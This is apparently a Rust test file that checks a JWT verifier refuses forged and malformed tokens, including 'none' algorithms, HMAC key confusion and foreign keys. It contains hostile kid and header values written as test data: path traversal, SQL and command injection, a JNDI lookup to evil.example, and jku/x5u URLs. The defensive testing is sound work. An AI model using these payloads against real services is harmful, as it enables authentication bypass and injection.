//! Which tokens are believed: the vectors of R21 as one table, each next to a good token that differs in one thing.
#![allow(clippy::unwrap_used)] // a test that cannot go on has failed

use aws_lc_rs::signature::{ECDSA_P384_SHA384_FIXED_SIGNING, EcdsaKeyPair};
use base64::prelude::{
    BASE64_STANDARD, BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE, BASE64_URL_SAFE_NO_PAD as B64, Engine as _,
};
use beep_core::ErrorKind;
use beep_core::auth::jwt::{Algorithm, Jwt, JwtConfig, MAX_TOKEN, SigningKey};
use beep_core::auth::{Authenticator, Scope, TokenIssuer};
use beep_core::clock::{Clock, ManualClock, Millis, SeededEntropy};
use beep_core::id::Identity;
use jsonwebtoken as other;
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

/// Now, in seconds; the clock stands at its beginning.
const NOW: u64 = 1_790_000_000;
const LEEWAY: u64 = 30;
const MESSAGE: &str = "this token is not valid: sign in again";

/// The keys of the server (RSA first) and those of a stranger, made once per process.
struct Keys {
    rsa: SigningKey,
    ed: SigningKey,
    ec: SigningKey,
    strange_rsa: SigningKey,
    strange_ed: SigningKey,
}

static KEYS: LazyLock<Keys> = LazyLock::new(|| {
    let key = |a| SigningKey::generate(a).expect("a key");
    Keys {
        rsa: key(Algorithm::Rs256),
        ed: key(Algorithm::EdDsa),
        ec: key(Algorithm::Es256),
        strange_rsa: key(Algorithm::Rs256),
        strange_ed: key(Algorithm::EdDsa),
    }
});

fn jwt_at(clock: &Arc<ManualClock>, keys: &[&SigningKey]) -> Jwt {
    let config = JwtConfig { leeway: Duration::from_secs(LEEWAY), ..JwtConfig::default() };
    let keys = keys.iter().map(|k| (*k).clone()).collect();
    Jwt::new(keys, config, clock.clone(), Arc::new(SeededEntropy::new(7))).expect("keys and config are fit")
}

fn server() -> Jwt {
    jwt_at(&Arc::new(ManualClock::at(NOW * 1_000)), &[&KEYS.rsa, &KEYS.ed, &KEYS.ec])
}

fn alice() -> Identity {
    Identity { user: "u-alice".parse().expect("an id"), device: "phone 1".parse().expect("an id") }
}

fn good_header(key: &SigningKey) -> Value {
    json!({ "alg": key.algorithm().as_str(), "typ": "JWT", "kid": key.kid() })
}

fn good_claims() -> Value {
    json!({
        "userid": "u-alice", "clientid": "phone 1", "sub": "u-alice", "iss": "beep", "aud": "beep",
        "iat": NOW, "exp": NOW + 600, "jti": "t-1",
    })
}

/// Signs with another implementation than the one under test.
fn signature(key: &SigningKey, message: &str, alg: other::Algorithm) -> String {
    let pem = key.to_pem();
    let secret = match key.algorithm() {
        Algorithm::Rs256 => other::EncodingKey::from_rsa_pem(pem.as_bytes()),
        Algorithm::EdDsa => other::EncodingKey::from_ed_pem(pem.as_bytes()),
        _ => other::EncodingKey::from_ec_pem(pem.as_bytes()),
    };
    other::crypto::sign(message.as_bytes(), &secret.expect("our own PEM"), alg).expect("signed")
}

fn native(key: &SigningKey) -> other::Algorithm {
    key.algorithm().as_str().parse().expect("an algorithm of jsonwebtoken")
}

/// A token of any header and payload bytes, really signed by this key.
fn signed(key: &SigningKey, header: impl AsRef<[u8]>, payload: impl AsRef<[u8]>) -> String {
    let message = format!("{}.{}", B64.encode(header), B64.encode(payload));
    let signature = signature(key, &message, native(key));
    format!("{message}.{signature}")
}

/// A good token of the RSA key after one change to its header.
fn with_header(change: impl FnOnce(&mut Map<String, Value>)) -> String {
    let mut header = good_header(&KEYS.rsa);
    change(header.as_object_mut().expect("an object"));
    signed(&KEYS.rsa, header.to_string(), good_claims().to_string())
}

/// A good token of the RSA key after one change to its claims.
fn with_claims(change: impl FnOnce(&mut Map<String, Value>)) -> String {
    let mut claims = good_claims();
    change(claims.as_object_mut().expect("an object"));
    signed(&KEYS.rsa, good_header(&KEYS.rsa).to_string(), claims.to_string())
}

fn header(name: &str, value: impl Into<Value>) -> String {
    with_header(|h| drop(h.insert(name.into(), value.into())))
}

fn claim(name: &str, value: impl Into<Value>) -> String {
    with_claims(|c| drop(c.insert(name.into(), value.into())))
}

fn good() -> String {
    with_claims(|_| {})
}

/// Header, payload and signature of a good token.
fn parts() -> [String; 3] {
    let token = good();
    let parts: Vec<_> = token.split('.').map(str::to_owned).collect();
    parts.try_into().expect("three parts")
}

type Case = (String, String);

fn case(name: impl Into<String>, token: impl Into<String>) -> Case {
    (name.into(), token.into())
}

fn unsigned() -> Vec<Case> {
    let mut cases = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", "NoNe", "none ", "non\u{0435}", ""] {
        let mut header = good_header(&KEYS.rsa);
        header["alg"] = alg.into();
        let message = format!("{}.{}", B64.encode(header.to_string()), B64.encode(good_claims().to_string()));
        cases.push(case(format!("alg {alg:?}, no signature"), format!("{message}.")));
        cases.push(case(
            format!("alg {alg:?}, a good token's signature"),
            format!("{message}.{}", parts()[2]),
        ));
        cases.push(case(format!("alg {alg:?}, really signed"), self::header("alg", alg)));
    }
    let [h, p, _] = parts();
    cases.push(case("no signature", format!("{h}.{p}.")));
    cases.push(case("no signature and no dot", format!("{h}.{p}")));
    cases.push(case("zero signature", format!("{h}.{p}.{}", B64.encode([0u8; 256]))));
    cases.push(case("signature of ones", format!("{h}.{p}.{}", B64.encode([0xffu8; 256]))));
    for key in [&KEYS.ed, &KEYS.ec] {
        let message =
            format!("{}.{}", B64.encode(good_header(key).to_string()), B64.encode(good_claims().to_string()));
        let name = format!("zero {} signature", key.algorithm());
        cases.push(case(name, format!("{message}.{}", B64.encode([0u8; 64]))));
    }
    cases
}

/// Every public form of the key that somebody might feed to an HMAC.
fn public_forms(key: &SigningKey) -> Vec<(&'static str, Vec<u8>)> {
    let jwk = key.jwk();
    let n = jwk["n"].as_str().expect("an RSA key");
    let number = B64.decode(n).expect("base64url");
    let mut pkcs1 = vec![0x30, 0x82, 0x01, 0x0a, 0x02, 0x82, 0x01, 0x01, 0x00];
    pkcs1.extend_from_slice(&number);
    pkcs1.extend_from_slice(&[0x02, 0x03, 0x01, 0x00, 0x01]);
    assert!(
        aws_lc_rs::signature::ParsedPublicKey::new(&aws_lc_rs::signature::RSA_PKCS1_2048_8192_SHA256, &pkcs1)
            .is_ok()
    );
    let mut spki = vec![0x30, 0x82, 0x01, 0x22, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d];
    spki.extend_from_slice(&[0x01, 0x01, 0x01, 0x05, 0x00, 0x03, 0x82, 0x01, 0x0f, 0x00]);
    spki.extend_from_slice(&pkcs1);
    let lines: Vec<String> = BASE64_STANDARD
        .encode(&spki)
        .as_bytes()
        .chunks(64)
        .map(|l| String::from_utf8_lossy(l).into())
        .collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"));
    vec![
        ("public PEM", pem.clone().into_bytes()),
        ("public PEM without the last line feed", pem.trim_end().as_bytes().to_vec()),
        ("public DER", spki),
        ("PKCS#1 DER", pkcs1),
        ("modulus", number),
        ("modulus as text", n.as_bytes().to_vec()),
        ("JWK", jwk.to_string().into_bytes()),
        ("kid", key.kid().as_bytes().to_vec()),
        ("nothing", Vec::new()),
    ]
}

fn confused() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, secret) in public_forms(&KEYS.rsa) {
        for alg in [other::Algorithm::HS256, other::Algorithm::HS512] {
            let header = json!({ "alg": alg, "typ": "JWT", "kid": KEYS.rsa.kid() });
            let message =
                format!("{}.{}", B64.encode(header.to_string()), B64.encode(good_claims().to_string()));
            let secret = other::EncodingKey::from_secret(&secret);
            let signature = other::crypto::sign(message.as_bytes(), &secret, alg).expect("signed");
            cases.push(case(format!("{alg:?} with the {what}"), format!("{message}.{signature}")));
        }
    }
    for alg in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        // The right key and a signature that holds, but not in the one way that this key signs.
        let header = json!({ "alg": alg, "typ": "JWT", "kid": KEYS.rsa.kid() });
        let message = format!("{}.{}", B64.encode(header.to_string()), B64.encode(good_claims().to_string()));
        let signature = signature(&KEYS.rsa, &message, alg.parse().expect("an algorithm"));
        cases.push(case(format!("{alg} by the RS256 key"), format!("{message}.{signature}")));
    }
    let ours = [&KEYS.rsa, &KEYS.ed, &KEYS.ec];
    for (named, signer) in
        ours.iter().flat_map(|n| ours.iter().map(move |s| (*n, *s))).filter(|(n, s)| n.kid() != s.kid())
    {
        let of = |alg: &SigningKey| {
            json!({ "alg": alg.algorithm().as_str(), "typ": "JWT", "kid": named.kid() }).to_string()
        };
        let (n, s) = (named.algorithm(), signer.algorithm());
        cases.push(case(
            format!("kid {n}, alg {s}, signed {s}"),
            signed(signer, of(signer), good_claims().to_string()),
        ));
        cases.push(case(
            format!("kid {n}, alg {n}, signed {s}"),
            signed(signer, of(named), good_claims().to_string()),
        ));
        cases.push(case(
            format!("kid {n}, alg {s}, signed {n}"),
            signed(named, of(signer), good_claims().to_string()),
        ));
    }
    cases.push(case("alg in lower case", header("alg", "rs256")));
    cases.push(case("alg missing", with_header(|h| drop(h.remove("alg")))));
    cases.push(case("alg null", header("alg", Value::Null)));
    cases.push(case("alg a list", header("alg", json!(["RS256"]))));
    cases
}

fn other_keys() -> Vec<Case> {
    let mut cases = Vec::new();
    let (own, strange) = (&KEYS.rsa, &KEYS.strange_rsa);
    let claims = good_claims().to_string();
    cases.push(case("another key under our kid", signed(strange, good_header(own).to_string(), &claims)));
    cases.push(case(
        "another key under its own kid",
        signed(strange, good_header(strange).to_string(), &claims),
    ));
    let strange_ed = signed(&KEYS.strange_ed, good_header(&KEYS.ed).to_string(), &claims);
    cases.push(case("another Ed25519 key under our kid", strange_ed));
    let kids = [
        ("traversal", "../../../../../../dev/null".to_owned()),
        ("absolute path", "/proc/self/environ".into()),
        ("SQL", "x' UNION SELECT 'secret' -- ".into()),
        ("SQL or", "' OR '1'='1".into()),
        ("command", "key|/usr/bin/id".into()),
        ("template", "${jndi:ldap://evil.example/a}".into()),
        ("URL", "https://evil.example/jwks.json".into()),
        ("unknown", "AAAAAAAAAAAAAAAA".into()),
        ("empty", String::new()),
        ("prefix of ours", own.kid()[..15].into()),
        ("ours and more", format!("{}A", own.kid())),
        ("ours and a NUL", format!("{}\0", own.kid())),
        ("ours and a space", format!("{} ", own.kid())),
        (
            "ours in other case",
            own.kid()
                .chars()
                .map(|c| if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
                .collect(),
        ),
        ("long", "k".repeat(2_000)),
    ];
    cases.extend(kids.map(|(name, kid)| case(format!("kid: {name}"), header("kid", kid))));
    cases.push(case("kid missing", with_header(|h| drop(h.remove("kid")))));
    cases.push(case("kid null", header("kid", Value::Null)));
    cases.push(case("kid a number", header("kid", 0)));
    cases.push(case("kid a list", header("kid", json!([own.kid()]))));

    // The token brings or names the stranger's key, signed by the stranger.
    let brought = [
        ("jwk", strange.jwk()),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!([BASE64_STANDARD.encode("a certificate")])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ];
    for (name, value) in brought {
        for named in [own, strange] {
            let mut head = good_header(named);
            head[name] = value.clone();
            let whose = if named.kid() == own.kid() { "our" } else { "its own" };
            cases.push(case(
                format!("{name}, another key, {whose} kid"),
                signed(strange, head.to_string(), &claims),
            ));
        }
        // Even signed by us: nothing here may read such a header.
        cases.push(case(format!("{name}, our key"), header(name, value)));
    }
    cases
}

fn headers() -> Vec<Case> {
    let key = &KEYS.rsa;
    let (alg, kid) = (key.algorithm().as_str(), key.kid());
    let raw = |header: String| signed(key, header, good_claims().to_string());
    vec![
        case("crit", header("crit", json!(["exp"]))),
        case("crit empty", header("crit", json!([]))),
        case(
            "crit b64, b64 false",
            with_header(|h| {
                h.insert("crit".into(), json!(["b64"]));
                h.insert("b64".into(), false.into());
            }),
        ),
        case("b64 true", header("b64", true)),
        case("zip", header("zip", "DEF")),
        case("cty", header("cty", "JWT")),
        case("enc", header("enc", "A128GCM")),
        case("unknown header", header("x", 1)),
        case("typ of an access token", header("typ", "at+jwt")),
        case("typ of a refresh token", header("typ", "refresh+jwt")),
        case("typ empty", header("typ", "")),
        case("typ null", header("typ", Value::Null)),
        case("typ a number", header("typ", 1)),
        case("typ with a space", header("typ", "JWT ")),
        case("alg twice", raw(format!(r#"{{"alg":"{alg}","alg":"{alg}","typ":"JWT","kid":"{kid}"}}"#))),
        case(
            "alg twice, first none",
            raw(format!(r#"{{"alg":"none","alg":"{alg}","typ":"JWT","kid":"{kid}"}}"#)),
        ),
        case(
            "alg twice, once escaped",
            raw(format!(r#"{{"alg":"{alg}","\u0061lg":"none","typ":"JWT","kid":"{kid}"}}"#)),
        ),
        case("kid twice", raw(format!(r#"{{"alg":"{alg}","kid":"{kid}","typ":"JWT","kid":"{kid}"}}"#))),
        case("header is a list", raw(json!([alg, "JWT", kid]).to_string())),
        case("header is text", raw(json!("JWT").to_string())),
        case("header is null", raw("null".into())),
        case("header is empty", raw(String::new())),
        case("header and more", raw(format!("{}{{}}", good_header(key)))),
        case("header cut", raw(format!(r#"{{"alg":"{alg}","typ":"JWT","kid":"{kid}""#))),
        case(
            "header not UTF-8",
            signed(key, b"{\"alg\":\"RS256\",\"typ\":\"\xff\"}", good_claims().to_string()),
        ),
        case("header with a byte order mark", raw(format!("\u{feff}{}", good_header(key)))),
    ]
}

fn claims() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["userid", "clientid", "sub", "iss", "aud", "iat", "exp", "jti"] {
        cases.push(case(format!("{name} missing"), with_claims(|c| drop(c.remove(name)))));
        for wrong in [Value::Null, json!(true), json!([]), json!({}), json!(-1), json!(1.5)] {
            cases.push(case(format!("{name} is {wrong}"), claim(name, wrong)));
        }
        // Numbers where text belongs, and the other way round.
        let wrong = if matches!(name, "iat" | "exp") { json!((NOW + 60).to_string()) } else { json!(7) };
        cases.push(case(format!("{name} is {wrong}"), claim(name, wrong)));
        let once = good_claims();
        let twice = format!(r#"{{"{name}":{},{}"#, once[name], &once.to_string()[1..]);
        cases.push(case(
            format!("{name} twice"),
            signed(&KEYS.rsa, good_header(&KEYS.rsa).to_string(), twice),
        ));
    }
    let body = good_claims().to_string();
    let raw = |payload: String| signed(&KEYS.rsa, good_header(&KEYS.rsa).to_string(), payload);
    cases.extend([
        case("user twice, once escaped", raw(format!(r#"{{"\u0075serid":"u-eve",{}"#, &body[1..]))),
        case("an unknown claim twice", raw(format!(r#"{{"x":1,"x":2,{}"#, &body[1..]))),
        case("exp twice, the first one gone", raw(format!(r#"{{"exp":1,{}"#, &body[1..]))),
        case(
            "a list of claims in order",
            raw(json!(["u-alice", "phone 1", "u-alice", "beep", "beep", NOW, NOW + 600, "t-1"]).to_string()),
        ),
        case("payload is text", raw(json!("u-alice").to_string())),
        case("payload is null", raw("null".into())),
        case("payload is empty", raw(String::new())),
        case("payload is an empty object", raw("{}".into())),
        case("payload and more", raw(format!("{body}{{}}"))),
        case("payload is a token", raw(good())),
        case("payload not UTF-8", signed(&KEYS.rsa, good_header(&KEYS.rsa).to_string(), [0xff, 0xfe])),
        case("other issuer", claim("iss", "beep2")),
        case("issuer in other case", claim("iss", "Beep")),
        case("issuer empty", claim("iss", "")),
        case("issuer as a list", claim("iss", json!(["beep"]))),
        case("other audience", claim("aud", "beep2")),
        case("audience empty", claim("aud", "")),
        case("audience as a list", claim("aud", json!(["beep"]))),
        case("sub is another user", claim("sub", "u-eve")),
        case("sub in other case", claim("sub", "U-ALICE")),
        case("jti empty", claim("jti", "")),
        case("scope unknown", claim("scope", "root")),
        case("scope empty", claim("scope", "")),
        case("scope null", claim("scope", Value::Null)),
        case("scope a number", claim("scope", 2)),
        case("scope a list", claim("scope", json!(["admin"]))),
        case("scope in other case", claim("scope", "Admin")),
        case("scope twice", raw(format!(r#"{{"scope":"user","scope":"admin",{}"#, &body[1..]))),
    ]);
    for (name, user) in [
        ("empty", String::new()),
        ("a space", " ".into()),
        ("65 characters", "u".repeat(65)),
        ("a slash", "u/../admin".into()),
        ("an at sign", "u@1".into()),
        ("a NUL", "u-alice\0".into()),
        ("a line feed", "u-alice\nX-User-Claim: eve".into()),
        ("not ASCII", "u-älice".into()),
        ("__proto__", "__proto__".into()),
    ] {
        let token = with_claims(|c| {
            c.insert("userid".into(), user.clone().into());
            c.insert("sub".into(), user.into());
        });
        cases.push(case(format!("userid: {name}"), token));
    }
    for (name, device) in [
        ("empty", String::new()),
        ("129 characters", "d".repeat(129)),
        ("a line feed", "phone\ndata: x".into()),
        ("a carriage return", "phone\r".into()),
        ("a NUL", "phone\0".into()),
        ("DEL", "phone\u{7f}".into()),
        ("an escape sequence", "\u{1b}[2J".into()),
        ("not ASCII", "Telefön".into()),
    ] {
        cases.push(case(format!("clientid: {name}"), claim("clientid", device)));
    }
    cases
}

fn times() -> Vec<Case> {
    vec![
        case("exp at the end of the leeway", claim("exp", NOW - LEEWAY)),
        case("exp one second later", claim("exp", NOW - LEEWAY - 1)),
        case("exp 0", claim("exp", 0)),
        case("exp in 1970, as milliseconds of today would not be", claim("exp", NOW / 1_000)),
        case(
            "exp above u64",
            signed(
                &KEYS.rsa,
                good_header(&KEYS.rsa).to_string(),
                good_claims().to_string().replace(&format!("{}", NOW + 600), "18446744073709551616"),
            ),
        ),
        case("exp as a float", claim("exp", NOW as f64 + 600.0)),
        case("iat behind the leeway", claim("iat", NOW + LEEWAY + 1)),
        case("iat in milliseconds", claim("iat", NOW * 1_000)),
        case("iat at the end of time", claim("iat", u64::MAX)),
        case("nbf behind the leeway", claim("nbf", NOW + LEEWAY + 1)),
        case("nbf at the end of time", claim("nbf", u64::MAX)),
        case("nbf as text", claim("nbf", "0")),
        case("nbf null", claim("nbf", Value::Null)),
        case("nbf below zero", claim("nbf", -1)),
        case(
            "nbf twice",
            signed(
                &KEYS.rsa,
                good_header(&KEYS.rsa).to_string(),
                format!(r#"{{"nbf":0,"nbf":0,{}"#, &good_claims().to_string()[1..]),
            ),
        ),
    ]
}

fn shapes() -> Vec<Case> {
    let token = good();
    let [h, p, s] = parts();
    let mut eve = good_claims();
    eve["userid"] = "u-eve".into();
    eve["sub"] = "u-eve".into();
    let eve = B64.encode(eve.to_string());
    let mut cases = vec![
        case("empty", ""),
        case("one dot", "."),
        case("two dots", ".."),
        case("dots only", ".".repeat(4_000)),
        case("a word", "token"),
        case("a NUL", "\0"),
        case("not ASCII", "ä.ö.ü"),
        case("swapped payload", format!("{h}.{eve}.{s}")),
        case("four parts", format!("{token}.{s}")),
        case("five parts, as encrypted", format!("{h}.{p}.{s}.{p}.{s}")),
        case("signature twice", format!("{h}.{p}.{s}{s}")),
        case("parts in other order", format!("{p}.{h}.{s}")),
        case("empty header", format!(".{p}.{s}")),
        case("empty payload", format!("{h}..{s}")),
        case("Bearer in front", format!("Bearer {token}")),
        case("JSON serialization", json!({ "protected": h, "payload": p, "signature": s }).to_string()),
        case("1 MB of one letter", "a".repeat(1_000_000)),
        case("1 MB behind a token", format!("{token}{}", "A".repeat(1_000_000))),
        case("1 MB of payload, really signed", claim("x", "x".repeat(1_000_000))),
        case("one letter too long, really signed", long(|len| len > MAX_TOKEN)),
    ];
    for end in
        ["A", "=", "==", "====", ".", " ", "\n", "\r\n", "\t", "\0", "%00", "&x=y", "#", ",", "\u{200b}"]
    {
        cases.push(case(format!("{end:?} behind"), format!("{token}{end}")));
        cases.push(case(format!("{end:?} in front"), format!("{end}{token}")));
    }
    for cut in [
        1,
        2,
        3,
        4,
        10,
        s.len() - 1,
        s.len(),
        s.len() + 1,
        s.len() + 2,
        s.len() + p.len() + 1,
        token.len() - 1,
    ] {
        cases.push(case(format!("{cut} bytes missing at the end"), &token[..token.len() - cut]));
    }
    for cut in [1, 2, 4, h.len(), h.len() + 1] {
        cases.push(case(format!("{cut} bytes missing at the beginning"), &token[cut..]));
    }
    // The same bytes in other spellings: each part in turn, header and payload signed as spelled.
    let spelled = |header: &str, payload: &str| {
        let message = format!("{header}.{payload}");
        format!("{message}.{}", signature(&KEYS.rsa, &message, other::Algorithm::RS256))
    };
    // Bytes whose base64 has both letters that differ between the alphabets, and a length that wants padding.
    let mut odd = good_claims();
    odd["clientid"] = "?>?>?>~~~".into();
    let odd =
        (0..3).map(|n| format!("{odd}{}", " ".repeat(n))).find(|t| t.len() % 3 == 1).expect("one of three");
    assert!(B64.encode(&odd).contains(['-', '_']) || BASE64_STANDARD.encode(&odd).contains(['+', '/']));
    assert_accepted(&spelled(&h, &B64.encode(&odd)), "the canonical spelling of the odd payload");
    cases.push(case("payload padded", spelled(&h, &BASE64_URL_SAFE.encode(&odd))));
    cases.push(case("payload in the standard alphabet", spelled(&h, &BASE64_STANDARD_NO_PAD.encode(&odd))));
    cases.push(case("payload padded, standard alphabet", spelled(&h, &BASE64_STANDARD.encode(&odd))));
    for gap in [" ", "\n", "\r\n", "\t"] {
        cases.push(case(
            format!("{gap:?} in the header"),
            spelled(&format!("{}{gap}{}", &h[..8], &h[8..]), &p),
        ));
        cases.push(case(
            format!("{gap:?} in the payload"),
            spelled(&h, &format!("{}{gap}{}", &p[..8], &p[8..])),
        ));
        cases.push(case(format!("{gap:?} in the signature"), format!("{h}.{p}.{}{gap}{}", &s[..8], &s[8..])));
    }
    cases.push(case("payload percent-encoded", spelled(&h, &p.replacen('e', "%65", 1))));
    // 256 bytes leave four unused bits in the last letter: other letters spell the same bytes to a lax decoder.
    for last in ["B", "P", "h", "w"] {
        let (front, end) = s.split_at(s.len() - 1);
        if end != last {
            cases.push(case(format!("signature's last letter {last}"), format!("{h}.{p}.{front}{last}")));
        }
    }
    cases.push(case("signature padded", format!("{h}.{p}.{s}==")));
    let standard = BASE64_STANDARD_NO_PAD.encode(B64.decode(&s).expect("base64url"));
    if standard != s {
        cases.push(case("signature in the standard alphabet", format!("{h}.{p}.{standard}")));
    }
    cases
}

/// The first token, from somewhat below the limit on, whose length is as asked.
fn long(fit: impl Fn(usize) -> bool) -> String {
    let near = (MAX_TOKEN - claim("x", "").len()) / 4 * 3;
    let longer = |n: usize| claim("x", "x".repeat(near - 8 + n));
    (0..16).map(longer).find(|token| fit(token.len())).expect("a token around the limit")
}

fn nested(depth: usize) -> Value {
    (0..depth).fold(Value::Null, |inner, _| json!([inner]))
}

#[track_caller]
fn assert_accepted(token: &str, what: &str) {
    let server = server();
    for time in ["first", "second"] {
        let verified = server.verify(token).unwrap_or_else(|e| panic!("{what}, {time} time: {e}"));
        assert_eq!(verified.identity.user.as_str(), "u-alice", "{what}");
    }
}

/// R21: each of these differs from a good token in one thing, and each gets the same answer.
#[test]
fn bad_tokens_are_refused_with_one_answer() {
    assert_accepted(&good(), "the token that all of these differ from");
    let groups = [unsigned(), confused(), other_keys(), headers(), claims(), times(), shapes()];
    let cases: Vec<Case> = groups.into_iter().flatten().collect();
    assert!(cases.len() >= 60, "{} cases", cases.len());
    let names: std::collections::HashSet<_> = cases.iter().map(|(name, _)| name).collect();
    assert_eq!(names.len(), cases.len(), "two cases of one name");

    let server = server();
    let believed: Vec<_> = cases
        .iter()
        .filter(|(name, token)| {
            // Twice each: what was refused must not be remembered as good.
            [(), ()].iter().any(|()| match server.verify(token) {
                Ok(_) => true,
                Err(e) => {
                    assert_eq!(e.kind(), ErrorKind::Unauthenticated, "{name}");
                    assert_eq!(e.to_string(), MESSAGE, "{name}");
                    assert!(std::error::Error::source(&e).is_none(), "{name}");
                    assert!(!e.is_temporary(), "{name}");
                    false
                }
            })
        })
        .map(|(name, _)| name)
        .collect();
    assert!(believed.is_empty(), "believed: {believed:#?}");
    assert!(server.verify(&good()).is_ok(), "a good token is refused after the bad ones");
    println!("goal=R21 pass={} fail=0", cases.len());
}

#[test]
fn good_tokens_are_believed() {
    for (name, token) in [
        ("as it is", good()),
        ("typ in lower case", header("typ", "jwt")),
        ("typ in mixed case", header("typ", "Jwt")),
        ("without typ", with_header(|h| drop(h.remove("typ")))),
        ("an unknown claim", claim("sid", "s-1")),
        ("an unknown claim, nested deeply", with_claims(|c| drop(c.insert("x".into(), nested(100))))),
        ("as long as a token may be", long(|len| len + 2 > MAX_TOKEN && len <= MAX_TOKEN)),
        ("scope spelled out", claim("scope", "user")),
        ("nbf now", claim("nbf", NOW)),
        ("nbf at the end of the leeway", claim("nbf", NOW + LEEWAY)),
        ("iat at the end of the leeway", claim("iat", NOW + LEEWAY)),
        ("iat long ago", claim("iat", 0)),
        ("exp just within the leeway", claim("exp", NOW - LEEWAY + 1)),
        ("exp at the end of time", claim("exp", u64::MAX)),
        ("clientid of every printable letter", claim("clientid", (' '..='~').collect::<String>())),
        ("clientid of 128", claim("clientid", "d".repeat(128))),
        (
            "white space around the JSON",
            signed(&KEYS.rsa, format!(" {}\n", good_header(&KEYS.rsa)), good_claims().to_string()),
        ),
        ("Ed25519 key", signed(&KEYS.ed, good_header(&KEYS.ed).to_string(), good_claims().to_string())),
        ("P-256 key", signed(&KEYS.ec, good_header(&KEYS.ec).to_string(), good_claims().to_string())),
    ] {
        assert_accepted(&token, name);
    }
}

/// A8: what is issued has every claim, and says the same to another implementation that knows only the JWK set.
#[test]
fn jwt_claims_required() {
    let clock = Arc::new(ManualClock::at(NOW * 1_000 + 999));
    for key in [&KEYS.rsa, &KEYS.ed, &KEYS.ec] {
        let jwt = jwt_at(&clock, &[key, &KEYS.strange_rsa]);
        let set: other::jwk::JwkSet = serde_json::from_value(jwt.jwks()).expect("a JWK set");
        assert_eq!(set.keys.len(), 2);
        for (scope, word) in
            [(Scope::User, None), (Scope::Service, Some("service")), (Scope::Admin, Some("admin"))]
        {
            let token = jwt.issue(&alice(), scope).expect("issued");
            let verified = jwt.verify(&token).expect("own token");
            assert_eq!((&verified.identity, verified.scope), (&alice(), scope));

            let head = other::decode_header(&token).expect("a header");
            assert_eq!(head.typ.as_deref(), Some("JWT"));
            let jwk = set.find(head.kid.as_deref().expect("a kid")).expect("the key in the set");
            assert_eq!(jwk.common.public_key_use, Some(other::jwk::PublicKeyUse::Signature));
            assert_eq!(
                jwk.common.key_algorithm.map(|a| a.to_string()).as_deref(),
                Some(key.algorithm().as_str())
            );
            let mut rules = other::Validation::new(native(key));
            rules.set_audience(&["beep"]);
            rules.set_issuer(&["beep"]);
            rules.validate_exp = false; // it would ask the machine's clock
            let theirs = other::DecodingKey::from_jwk(jwk).expect("a key");
            let read =
                other::decode::<Value>(&token, &theirs, &rules).expect("verified by jsonwebtoken").claims;
            let jti = read["jti"].as_str().expect("a jti");
            assert_eq!(jti, verified.token_id);
            assert_eq!(B64.decode(jti).expect("base64url").len(), 16);
            let exp = NOW + 30 * 24 * 60 * 60;
            assert_eq!(verified.expires, exp * 1_000);
            let mut all = json!({
                "userid": "u-alice", "clientid": "phone 1", "sub": "u-alice", "iss": "beep", "aud": "beep",
                "iat": NOW, "exp": exp, "jti": jti,
            });
            if let Some(word) = word {
                all["scope"] = word.into();
            }
            assert_eq!(read, all);
        }
    }
    let jwt = server();
    let ids: std::collections::HashSet<String> = (0..100)
        .map(|_| jwt.verify(&jwt.issue(&alice(), Scope::User).unwrap()).unwrap().token_id.clone())
        .collect();
    assert_eq!(ids.len(), 100, "every token has its own id");
}

/// Whatever the longest names make of it, a token that was issued is believed.
#[test]
fn the_longest_token_is_believed() {
    let longest = JwtConfig { issuer: "\"".repeat(256), audience: "\\".repeat(256), ..JwtConfig::default() };
    let who = Identity { user: "u".repeat(64).parse().unwrap(), device: "\"".repeat(128).parse().unwrap() };
    let clock = Arc::new(ManualClock::at(NOW * 1_000));
    let jwt = Jwt::new(vec![KEYS.rsa.clone()], longest, clock, Arc::new(SeededEntropy::new(1))).unwrap();
    let token = jwt.issue(&who, Scope::Service).unwrap();
    assert_eq!(jwt.verify(&token).unwrap().identity, who);
    // An RSA key of 8,192 bits has a signature 1,024 characters longer.
    assert!(token.len() + 1_024 <= MAX_TOKEN, "{} bytes", token.len());
}

#[test]
fn the_clock_decides_to_the_millisecond_also_for_remembered_tokens() {
    let begin = NOW * 1_000;
    let until = (NOW + 600 + LEEWAY) * 1_000;
    for remembered in [false, true] {
        for (now, good_then) in [
            (0, false),
            (begin - LEEWAY * 1_000 - 1, false),
            (begin - LEEWAY * 1_000, true),
            (begin, true),
            (until - 1, true),
            (until, false),
            (until + 1, false),
            (Millis::MAX, false),
        ] {
            let clock = Arc::new(ManualClock::at(begin));
            let jwt = jwt_at(&clock, &[&KEYS.rsa]);
            if remembered {
                assert!(jwt.verify(&good()).is_ok());
            }
            clock.set(now);
            assert_eq!(jwt.verify(&good()).is_ok(), good_then, "at {now}, remembered: {remembered}");
            // A clock that jumps back makes it good again: time alone decides, each time.
            clock.set(begin);
            assert!(jwt.verify(&good()).is_ok(), "back from {now}, remembered: {remembered}");
        }
    }
}

#[test]
fn a_clock_at_either_end_issues_without_panic() {
    for (now, good_then) in [(0, true), (Millis::MAX / 2, true), (Millis::MAX, false)] {
        let jwt = jwt_at(&Arc::new(ManualClock::at(now)), &[&KEYS.ed]);
        let token = jwt.issue(&alice(), Scope::User).unwrap();
        assert_eq!(jwt.verify(&token).is_ok(), good_then, "at {now}: nothing is good at the end of time");
    }
    let clock = Arc::new(ManualClock::at(Millis::MAX));
    let config = JwtConfig { lifetime: Duration::MAX, leeway: Duration::MAX, ..JwtConfig::default() };
    let jwt =
        Jwt::new(vec![KEYS.ed.clone()], config, clock.clone(), Arc::new(SeededEntropy::new(1))).unwrap();
    let token = jwt.issue(&alice(), Scope::User).unwrap();
    clock.set(0);
    assert!(jwt.verify(&token).is_ok());
}

/// R21: rotation without one failed request, and the end of a key ends its tokens.
#[test]
fn rotated_key() {
    let clock = Arc::new(ManualClock::at(NOW * 1_000));
